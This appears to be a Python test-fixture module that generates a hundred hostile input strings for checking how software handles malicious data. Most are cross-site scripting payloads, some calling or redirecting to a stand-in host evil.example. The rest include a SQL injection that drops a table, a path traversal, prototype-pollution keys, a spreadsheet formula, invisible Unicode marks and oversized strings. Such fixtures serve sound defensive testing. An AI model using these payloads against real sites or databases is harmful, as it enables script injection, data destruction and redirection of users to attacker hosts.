"""A hundred strings that somebody who does not mean well could send."""

from collections.abc import Iterator

_CALLS = ("alert(1)", "window.__hit=1", "fetch('//evil.example')", "location='//evil.example'")
_MARKUP = (
    "<script>{}</script>",
    "</script><script>{}</script>",
    "<img src=x onerror={}>",
    '"><svg onload={}>',
    "' onmouseover='{}' x='",
    "<iframe srcdoc='<script>{}</script>'></iframe>",
    "<details open ontoggle={}>",
    "</title><script>{}</script>",
    "</template><script>{}</script>",
    "javascript:{}",
    "{{{{constructor.constructor('{}')()}}}}",
    "${{{}}}",
    "<style>@import '//evil.example/{}'</style>",
    "<base href=//evil.example/><!--{}",
    '<a href="javascript:{}">here</a>',
)
_MARKS = "\u202e\u202d\u2066\u2067\u200f\u200e\u200b\u200d\ufeff\u2028\u2029\u00ad\u034f\u180e\ufff9\u061c"
_LONG = 10_000


def _others() -> Iterator[str]:
    for mark in _MARKS:
        yield f"be{mark}fore {mark}gnihtyreve{mark}"
    yield from ("x" * _LONG, "long words " * (_LONG // 11), "\u202e" * _LONG, "e" + "\u0301" * 500, "😀" * 2500)
    yield from ("<" * _LONG, "&amp;" * 2000, "\u0645\u0631\u062d\u0628\u0627 " * 100, "\u2067" * 300 + "<b>bold</b>")
    yield from ("&lt;script&gt;alert(1)&lt;/script&gt;", "%3Cscript%3Ealert(1)%3C/script%3E", "null", "undefined")
    yield from ("__proto__", "constructor", "../../v1/erase", "'; DROP TABLE campaigns; --", "=HYPERLINK(1)")


def strings() -> list[str]:
    markup = [shape.format(call) for shape in _MARKUP for call in _CALLS]
    return [*markup, *_others(), *(f"<b>{number}</b>" for number in range(100))][:100]
